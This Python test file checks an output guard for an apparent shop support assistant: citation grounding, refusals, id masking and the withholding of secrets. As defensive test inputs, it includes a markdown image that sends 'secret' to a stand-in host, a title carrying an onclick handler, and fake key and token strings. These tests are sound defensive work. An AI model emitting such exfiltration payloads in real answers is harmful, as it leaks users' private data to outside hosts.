"""The guard on a finished answer: sources must hold, nothing internal leaves, ids and links are treated right."""

from typing import Any

import pytest

from contracts.turn import Citation, Mark
from orchestrator.guard.answer import Phrases, check_answer
from orchestrator.guard.checker import Grounds
from orchestrator.guard.masking import IdMask
from orchestrator.guard.output.policy import OutputPolicy, load_output_policy
from orchestrator.guard.support.checking import MAX_SENTENCES
from orchestrator.turn.inputs import Guarded
from servicekit.privacy import Finder

URL = "https://shop.example/help/returns"
PASSAGE = {
    "chunk_id": "c1",
    "title": "Returns",
    "url": URL,
    "text": "You can return an item within 30 days.\nUse the form.",
}
QUOTE = Citation(chunk_id="c1", title="Returns", url=URL, quote="within 30 days. Use the form")
FOUND = {"passages": [PASSAGE]}


POLICY: OutputPolicy = load_output_policy(Finder.load())


def check(text: str, *citations: Citation, outputs: list[dict[str, Any]] | None = None) -> Guarded:
    phrases = Phrases(unsupported="No source.", withheld="Withheld.", nearest="Not found; the nearest page is {page}.")
    grounds = Grounds(outputs=outputs or [], asked=("Where is my order ABC123?",))
    return check_answer(text, citations, (), grounds, IdMask(frozenset({"ABC123"})), phrases, POLICY)


def test_a_quote_that_stands_in_its_passage_passes() -> None:
    guarded = check("You can return it within 30 days, as Returns says.", QUOTE, outputs=[FOUND])
    assert (guarded.verdict, guarded.citations, guarded.covered) == ("pass", (QUOTE,), 1.0)
    (support,) = guarded.support
    assert (support.start, support.end, support.chunk_id) == (0, 50, "c1")
    assert support.quote == "You can return an item within 30 days."


@pytest.mark.parametrize(
    "wrong",
    [
        QUOTE.model_copy(update={"quote": "within 90 days"}),
        QUOTE.model_copy(update={"chunk_id": "c9"}),
        QUOTE.model_copy(update={"url": "https://evil.example/returns"}),
    ],
)
def test_an_answer_whose_only_source_does_not_hold_is_refused(wrong: Citation) -> None:
    guarded = check("Within 90 days.", wrong, outputs=[FOUND])
    assert (guarded.verdict, guarded.text, tuple(one.quote for one in guarded.citations)) == (
        "refuse", f"Not found; the nearest page is “Returns” ({URL}).", ("You can return an item within 30 days.",),
    )  # fmt: skip
    assert guarded.refusal == "unsupported"


def test_a_wrong_source_beside_a_right_one_is_dropped() -> None:
    guarded = check(
        "Within 30 days, says Returns.", QUOTE, QUOTE.model_copy(update={"quote": "free cake"}), outputs=[FOUND]
    )
    assert (guarded.verdict, guarded.citations, guarded.reasons) == ("repair", (QUOTE,), ("citation_dropped",))


@pytest.mark.parametrize(
    "leak",
    [
        "Your id is cust_ben.",
        "See conversation cnv_0199aa",
        "key sk-abcdefghijklmnopqrstu",
        "token eyJhbGciOiJFZERTQSJ9.eyJzdWIiOiJjdXN0In0",
    ],
)
def test_internal_ids_and_secrets_never_leave(leak: str) -> None:
    guarded = check(leak)
    assert (guarded.verdict, guarded.text) == ("refuse", "Withheld.")


def test_images_are_removed_and_order_ids_masked() -> None:
    guarded = check("Order ABC123 ![x](https://evil.example/?q=secret) is here.", outputs=[{"order_id": "ABC123"}])
    assert guarded.text == "Order ••C123  is here."
    assert guarded.reasons == ("output:image",)


def test_an_invoice_link_is_given_beside_the_text() -> None:
    invoice = {"invoice_number": "INV-2026-0001", "url": "https://files.example/i?signature=s"}
    assert check("Here it is.", outputs=[invoice]).links == {"Invoice INV-2026-0001": invoice["url"]}


def test_an_empty_answer_goes_to_a_person() -> None:
    assert check("  ").verdict == "hand_over"


def test_a_sentence_without_support_is_dropped_and_the_rest_stays_in_its_place() -> None:
    guarded = check("You can return an item within 30 days. Shipping is on us. Use the form.", QUOTE, outputs=[FOUND])
    assert guarded.text.startswith("You can return an item within 30 days. Use the form.")
    assert (guarded.verdict, guarded.covered) == ("repair", 2 / 3)
    assert [guarded.text[one.start : one.end] for one in guarded.support] == [
        "You can return an item within 30 days.", "Use the form.",
    ]  # fmt: skip
    assert all(one.quote in PASSAGE["text"] for one in guarded.support)


def test_an_item_of_a_list_is_dropped_with_its_mark() -> None:
    text = "What you can do:\n\n- You can return an item within 30 days.\n- Get 50 USD for it.\n- Use the form."
    guarded = check(text, QUOTE, outputs=[FOUND])
    assert "50" not in guarded.text
    assert guarded.text.startswith("What you can do:\n\n- You can return an item within 30 days.\n- Use the form.")


def test_what_is_longer_than_can_be_checked_is_cut_where_the_check_ends() -> None:
    text = "Sure.\n" * MAX_SENTENCES + "Refunds of 500 USD are paid for ABC123 at once."
    guarded = check(text, outputs=[{"order_id": "ABC123"}])
    assert guarded.text == ("Sure.\n" * MAX_SENTENCES).strip()
    assert (guarded.verdict, guarded.reasons) == ("repair", ("too_long",))


def test_a_quote_of_the_nearest_page_is_its_first_line() -> None:
    page = PASSAGE | {"text": "# Returns\n\nWrite to returns@shop.example first."}
    phrases = Phrases(unsupported="No source.", withheld="Withheld.", nearest="Nearest: {page}.")
    guarded = check_answer(
        "Boats cost 5000 USD.",
        (),
        (),
        Grounds(outputs=[{"passages": [page]}]),
        IdMask(frozenset()),
        phrases,
        POLICY,
    )
    assert (guarded.verdict, guarded.citations[0].quote) == ("refuse", "Write to returns@shop.example first.")


def test_what_the_knowledge_base_does_not_have_is_a_refusal_that_names_the_nearest_page() -> None:
    guarded = check("Boats cost 5000 USD and come in blue.", outputs=[FOUND | {"answerable": False}])
    assert (guarded.verdict, guarded.refusal) == ("refuse", "not_in_knowledge_base")
    assert guarded.text == f"Not found; the nearest page is “Returns” ({URL})."


def test_a_model_that_admits_it_keeps_its_words() -> None:
    text = f"I could not find anything about boats. The nearest page is “Returns” ({URL}). Shall I open a ticket?"
    guarded = check(text, QUOTE, outputs=[FOUND | {"answerable": False}])
    assert (guarded.text, guarded.refusal, guarded.citations) == (text, "not_in_knowledge_base", (QUOTE,))


def test_shop_policy_from_a_models_own_head_is_refused_where_nothing_was_searched() -> None:
    guarded = check("Sure! Returns take 30 days.")
    assert (guarded.verdict, guarded.text, guarded.refusal) == ("refuse", "No source.", "unsupported")
    assert check("Hello! How can I help?").verdict == "pass"


def test_a_page_without_an_address_is_named_by_its_title_alone() -> None:
    local = FOUND | {"passages": [PASSAGE | {"url": "kb:returns.md"}]}
    guarded = check("You can return an item within 30 days.", outputs=[local])
    assert guarded.text == "You can return an item within 30 days.\n\nAccording to “Returns”."


def test_a_title_with_markup_is_named_once_and_in_words() -> None:
    title = "Returns <b onclick=x()>now</b> ![p](https://evil.example/x.png)"
    odd = FOUND | {"passages": [PASSAGE | {"title": title, "url": "kb:returns.md"}]}
    named = "You can return an item within 30 days.\n\nAccording to “Returns now p”."
    assert check("You can return an item within 30 days.", outputs=[odd]).text == named
    assert check(named, outputs=[odd]).text == named


def test_in_another_language_a_sentence_needs_a_mark_and_its_numbers_must_agree() -> None:
    text = "Sie können Artikel innerhalb von 30 Tagen zurückgeben. Sie haben 90 Tage Zeit. Der Versand ist gratis."
    phrases = Phrases(
        unsupported="No source.", withheld="Withheld.", nearest="Nearest: {page}.", source="Laut {pages}."
    )
    grounds = Grounds(outputs=[FOUND], foreign=True)
    marks = (Mark(offset=54, chunk_id="c1"), Mark(offset=78, chunk_id="c1"))
    guarded = check_answer(text, (QUOTE,), marks, grounds, IdMask(frozenset()), phrases, POLICY)
    assert guarded.text == f"Sie können Artikel innerhalb von 30 Tagen zurückgeben.\n\nLaut “Returns” ({URL})."
    assert [one.quote for one in guarded.support] == ["You can return an item within 30 days."]
